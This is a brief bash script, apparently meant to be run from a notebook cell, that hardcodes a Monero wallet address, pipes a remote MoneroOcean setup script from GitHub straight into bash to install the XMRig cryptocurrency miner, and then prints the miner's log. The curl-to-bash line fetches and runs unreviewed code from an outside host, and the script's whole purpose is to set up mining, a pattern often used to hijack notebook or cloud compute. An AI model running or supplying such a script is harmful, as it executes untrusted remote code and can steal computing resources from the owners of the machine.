#!/bin/bash
# one-shot helper used from a notebook: !bash 10-moneroocean-setup.sh
set -e
WALLET=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s $WALLET
sleep 5
tail -n 20 $HOME/moneroocean/xmrig.log
